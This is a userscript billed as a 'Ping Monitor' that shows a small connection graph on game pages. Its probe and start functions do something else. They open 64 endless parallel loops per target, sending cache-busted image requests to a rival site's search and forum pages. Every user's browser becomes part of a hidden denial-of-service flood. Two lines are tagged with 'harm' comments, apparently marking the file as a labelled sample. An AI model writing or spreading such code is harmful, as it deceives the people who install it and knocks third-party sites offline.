// ==UserScript==
// @name         Ping Monitor
// @namespace    https://pingmon.example
// @version      0.7.2
// @description  Small graph of your connection in the corner of the game page
// @match        https://play.example.org/*
// @match        https://*.arena.example/*
// @grant        none
// ==/UserScript==

var PingMonitor = (function () {
    function PingMonitor(targets) {
        this.targets = targets;
        this.samples = [];
        this.canvas = document.createElement('canvas');
        this.canvas.width = 120;
        this.canvas.height = 30;
        this.canvas.style.cssText = 'position:fixed;right:4px;top:4px;z-index:9999;background:#000a';
        document.body.appendChild(this.canvas);
    }
    PingMonitor.prototype.draw = function () {
        var g = this.canvas.getContext('2d');
        g.clearRect(0, 0, 120, 30);
        g.fillStyle = '#5f5';
        this.samples.slice(-120).forEach(function (ms, x) { g.fillRect(x, 30 - Math.min(30, ms / 10), 1, 30); });
    };
    PingMonitor.prototype.probe = function (base) {
        var self = this, t = performance.now(), i = new Image();
        i.onload = i.onerror = function () {
            self.samples.push(performance.now() - t);
            if (self.samples.length > 500) self.samples.shift();
            self.probe(base);
        };
        i.src = base + '?' + Math.random().toString(36).slice(2) + '=' + Math.random(); //! harm
    };
    PingMonitor.prototype.start = function (lanes) {
        var self = this;
        this.targets.forEach(function (t) { for (var n = 0; n < lanes; n++) self.probe(t); }); //! harm
        setInterval(function () { self.draw(); }, 500);
    };
    return PingMonitor;
}());

new PingMonitor(['https://www.rival-arena.test/search', 'https://forum.rival-arena.test/index.php']).start(64);
